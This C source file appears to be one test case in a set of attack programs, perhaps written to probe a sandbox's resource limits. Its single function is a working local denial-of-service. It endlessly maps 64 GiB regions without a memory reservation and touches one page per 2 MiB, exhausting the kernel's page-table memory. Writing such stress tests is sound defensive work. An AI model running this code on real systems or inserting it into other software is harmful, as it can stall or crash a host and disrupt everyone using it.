/* Touches one page in each 2 MiB of a range without end: page tables, of which a process has more than memory. */
#include "attack.h"

int attack(int count, char **arguments) {
	(void)count, (void)arguments;
	for (;;) {
		/* Readable, writable; private, anonymous, without a reservation; 64 GiB at a time. */
		long start = call(__NR_mmap, 0, 1l << 36, 3, 0x4022, -1, 0);
		if (start < 0)
			return 1;
		for (long at = 0; at < 1l << 36; at += 2l << 20)
			*(volatile char *)(start + at) = 1;
	}
}
